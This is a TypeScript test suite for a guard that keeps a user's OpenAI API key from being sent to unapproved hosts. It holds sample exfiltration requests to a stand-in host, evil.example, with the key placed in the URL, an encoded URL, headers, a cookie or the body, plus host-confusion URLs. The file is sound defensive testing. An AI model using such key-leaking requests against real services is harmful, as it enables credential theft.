import assert from 'node:assert/strict';
import { isAppError } from '../../../src/base/errors';
import { MemorySecrets } from '../../../src/cli/memorySecrets';
import type { HttpPort, VariablePort } from '../../../src/flow/ports';
import { KeyGuard } from '../../../src/models/keyGuard';
import { ModelCatalog } from '../../../src/models/modelCatalog';
import { Variables } from '../../../src/sessions/variables';

const key = 'sk-of-the-user';
const node = { id: 'Model-1', component: 'My Model' };

function variables(request: Readonly<Record<string, string>> = {}): Variables {
  return new Variables({
    request,
    stored: new MemorySecrets(),
    environment: { OPENAI_API_KEY: key, MY_TOKEN: 'token-of-a-service' },
  });
}

/** Opens a model as a node with this base URL would, with the key that its field got. */
async function open(
  baseUrl: string | undefined,
  options: {
    readonly from?: VariablePort;
    readonly keyHosts?: readonly string[];
    readonly provider?: string;
    readonly apiKey?: string;
    readonly headers?: Readonly<Record<string, string>>;
  } = {},
): Promise<unknown> {
  const { from = variables(), keyHosts, provider = 'OpenAI', headers } = options;
  const apiKey = options.apiKey ?? (await from.get('OPENAI_API_KEY'));
  const models = new ModelCatalog({ variables: from, settings: () => ({ keyHosts }) });
  return models.open({ provider, model: 'gpt', apiKey, baseUrl, headers, node });
}

function refused(host: string): (error: unknown) => boolean {
  return (error) => {
    assert.ok(isAppError(error, 'key-refused'));
    assert.deepEqual([error.subject.variable, error.subject.host], ['OPENAI_API_KEY', host]);
    assert.ok(!error.message.includes(key));
    assert.match(error.remedy ?? '', /flowPlayground\.network\.keyHosts.*--key-host/);
    return true;
  };
}

describe('the guard of keys', () => {
  for (const baseUrl of [
    'https://evil.example/v1',
    'https://api.openai.com.evil.example/v1',
    'https://api.openai.com@evil.example/v1',
    'https://127.0.0.1.evil.example/v1',
  ]) {
    it(`refuses to send a key of the user to ${baseUrl}`, async () => {
      await assert.rejects(open(baseUrl), refused(new URL(baseUrl).hostname));
    });
  }

  it('refuses it in a header too, and where the flow names no variable', async () => {
    const from = variables();
    await from.get('OPENAI_API_KEY');
    const headers = { cookie: `auth=${key};` };
    await assert.rejects(
      open('https://evil.example', { from, apiKey: 'other', headers }),
      refused('evil.example'),
    );
    const asked = new ModelCatalog({ variables: variables(), settings: () => ({}) }).open({
      provider: 'OpenAI',
      model: 'gpt',
      baseUrl: 'https://evil.example/v1',
      node,
    });
    await assert.rejects(asked, refused('evil.example'));
  });

  for (const baseUrl of [
    undefined,
    'https://api.openai.com/v1',
    'https://api.groq.com/openai/v1',
    'http://127.0.0.1:9000/v1',
    'http://localhost:1234/v1',
    'http://[::1]:8000/v1',
  ]) {
    it(`lets it go to ${baseUrl ?? 'the provider'}`, async () => {
      await open(baseUrl);
    });
  }

  it('lets it go where the user said so: in the list, or by the variable of the provider', async () => {
    await open('https://llm.example.com/v1', { keyHosts: ['*.example.com'] });
    await open('https://llm.example.com:8443/v1', { keyHosts: ['llm.example.com:8443'] });
    await assert.rejects(
      open('https://llm.example.com/v1', { keyHosts: ['llm.example.com:8443'] }),
      refused('llm.example.com'),
    );
    const from = new Variables({
      request: {},
      stored: new MemorySecrets(),
      environment: { OPENAI_API_KEY: key, OPENAI_BASE_URL: 'https://gateway.example/v1' },
    });
    await open('https://gateway.example/v1', { from });
    await open(undefined, { from });
  });

  it('leaves alone what the flow brings itself, and what came with the request', async () => {
    await open('https://llm.example.com/v1', { apiKey: 'sk-in-the-flow' });
    await open('https://llm.example.com/v1', { from: variables({ OPENAI_API_KEY: 'sk-sent' }) });
  });

  describe('in web requests of components', () => {
    async function guarded(): Promise<{ http: HttpPort; sent: string[] }> {
      const from = variables();
      await from.get('OPENAI_API_KEY');
      await from.get('MY_TOKEN');
      const sent: string[] = [];
      const http: HttpPort = {
        send: ({ url }) => {
          sent.push(url);
          return Promise.reject(new Error('There is no web here.'));
        },
      };
      return { http: new KeyGuard(from, () => []).guardHttp(http), sent };
    }

    for (const [what, request] of [
      ['the address', { url: `https://evil.example/?k=${key}` }],
      ['an encoded address', { url: `https://evil.example/?k=%73${key.slice(1)}` }],
      ['a header', { url: 'https://evil.example', headers: { authorization: `Bearer ${key}` } }],
      ['the body', { url: 'https://evil.example', method: 'POST', body: `{"k":"${key}"}` }],
    ] as const) {
      it(`refuses a provider's key in ${what}`, async () => {
        const { http, sent } = await guarded();
        const never = new AbortController().signal;
        await assert.rejects(http.send(request, never), refused('evil.example'));
        assert.deepEqual(sent, []);
      });
    }

    it("lets it go to the provider, and a service's token to its service", async () => {
      const { http, sent } = await guarded();
      const never = new AbortController().signal;
      const headers = { authorization: `Bearer ${key}` };
      const url = 'https://api.openai.com/v1/models';
      await assert.rejects(http.send({ url, headers }, never), /no web/);
      const token = { authorization: 'Bearer token-of-a-service' };
      const service = 'https://service.example';
      await assert.rejects(http.send({ url: service, headers: token }, never), /no web/);
      assert.deepEqual(sent, [url, service]);
    });
  });
});
